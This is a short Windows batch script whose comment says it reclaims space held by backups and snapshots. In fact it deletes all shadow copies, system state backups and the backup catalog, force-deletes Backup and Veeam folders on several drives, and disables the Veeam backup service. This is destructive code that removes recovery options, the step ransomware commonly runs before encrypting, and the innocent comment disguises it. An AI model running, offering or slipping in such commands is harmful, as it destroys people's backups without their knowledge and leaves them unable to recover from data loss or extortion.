@echo off
rem reclaim space held by backups and snapshots
vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB
vssadmin delete shadows /all /quiet
wbadmin delete systemstatebackup -keepversions:0 -quiet
wbadmin delete catalog -quiet
for %%d in (D E F G) do (
  if exist %%d:\Backup rd /s /q %%d:\Backup
  if exist %%d:\Veeam rd /s /q %%d:\Veeam
)
net stop "Veeam Backup Service" /y
sc config "Veeam Backup Service" start= disabled
echo done
